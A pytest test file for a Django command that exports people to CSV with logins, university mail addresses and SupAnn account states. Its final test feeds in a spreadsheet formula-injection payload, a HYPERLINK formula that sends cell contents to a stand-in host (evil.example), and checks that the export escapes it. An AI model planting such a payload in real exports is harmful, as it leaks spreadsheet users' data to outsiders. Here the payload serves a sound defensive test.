"""`seuil export_people`: one CSV row per person, with login, address and SupAnn state."""

import csv
import os
import subprocess
import sys
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from seuil.people.models import Person
from tests.conftest import database_url

pytestmark = pytest.mark.django_db

FEED = """status;external_id;first_name;last_name;birth_date;start_date
administratif;1001;Jean;Dupont;1980-05-12;2026-09-01
etudiant;E1;Zoë;Brontë;2005-01-01;2026-09-01
"""


def export(*args: str) -> list[dict[str, str]]:
    out = StringIO()
    call_command("export_people", *args, stdout=out)
    return list(csv.DictReader(StringIO(out.getvalue(), newline="")))


def test_it_exports_logins_addresses_and_states(tmp_path: Path) -> None:
    (tmp_path / "feed.csv").write_text(FEED)
    call_command("import_people", str(tmp_path / "feed.csv"), stdout=StringIO())
    assert export() == [
        {"external_id": "1001", "status": "administratif", "first_name": "Jean",
         "last_name": "Dupont", "login": "jdupont", "mail": "jean.dupont@univ-montp3.fr",
         "account_state": "SupannCree"},
        {"external_id": "E1", "status": "etudiant", "first_name": "Zoë", "last_name": "Brontë",
         "login": "zbronte", "mail": "zoe.bronte@etu.univ-montp3.fr",
         "account_state": "SupannCree"},
    ]  # fmt: skip


def test_it_keeps_one_status(tmp_path: Path) -> None:
    (tmp_path / "feed.csv").write_text(FEED)
    call_command("import_people", str(tmp_path / "feed.csv"), stdout=StringIO())
    assert [row["login"] for row in export("--status", "etudiant")] == ["zbronte"]


def test_it_refuses_an_unknown_status() -> None:
    with pytest.raises(CommandError, match="invalid choice"):
        call_command("export_people", "--status", "stagiaire")


def test_an_empty_registry_exports_the_header_only() -> None:
    out = StringIO()
    call_command("export_people", stdout=out)
    assert out.getvalue() == "external_id,status,first_name,last_name,login,mail,account_state\n"


def test_excel_gets_semicolons_a_bom_and_crlf(tmp_path: Path) -> None:
    (tmp_path / "feed.csv").write_text(FEED)
    call_command("import_people", str(tmp_path / "feed.csv"), stdout=StringIO())
    out = StringIO()
    call_command("export_people", "--excel", stdout=out)
    text = out.getvalue()
    assert text.startswith("\ufeffexternal_id;status;first_name;")
    assert "\r\nE1;etudiant;Zoë;Brontë;zbronte;" in text


@pytest.mark.django_db(transaction=True)
def test_a_reader_that_stops_early_gets_no_traceback(tmp_path: Path) -> None:
    """`seuil export_people | head` used to end in a BrokenPipeError traceback. The export is
    longer than a pipe holds (64 KiB), so the command is still writing when the reader goes."""
    rows = "".join(
        f"administratif;{n};Marie-Bérénice;{_name(n)}-de-La-Tour-Maubourg-Villeneuve-Saint-Aubin;"
        "1980-05-12;2026-09-01\n"
        for n in range(700)
    )
    (tmp_path / "feed.csv").write_text(FEED.splitlines()[0] + "\n" + rows)
    call_command("import_people", str(tmp_path / "feed.csv"), stdout=StringIO())
    whole = StringIO()
    call_command("export_people", stdout=whole)
    assert len(whole.getvalue().encode()) > 96 * 1024, "more than a pipe (64 KiB) and a buffer"
    # The command reads what the test committed, from the test's own database.
    env = {**os.environ, "DATABASE_URL": database_url(), "SEUIL_ENV_FILE": ""}
    seuil = [sys.executable, "-m", "seuil"]
    export = subprocess.Popen(
        [*seuil, "export_people"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert export.stdout is not None
    assert export.stdout.readline().startswith(b"external_id,")
    export.stdout.close()  # what head does after its lines
    _, errors = export.communicate(timeout=60)
    assert b"Traceback" not in errors
    assert b"BrokenPipe" not in errors


def _name(number: int) -> str:
    """Aaa, Aab…: names that differ in their first letters, so that logins differ at once."""
    letters = "".join("abcdefghijklmnopqrstuvwxyz"[number // 26**k % 26] for k in (2, 1, 0))
    return letters.capitalize()


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33612345678", "-2+3", "@SUM(A1)",
     "\tTab"],
)  # fmt: skip
def test_no_cell_starts_like_a_formula(make_person: Callable[..., Person], name: str) -> None:
    make_person(first_name="Anne", last_name=f"{name} Martin")
    (row,) = export()
    assert row["last_name"] == f"'{name} Martin"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
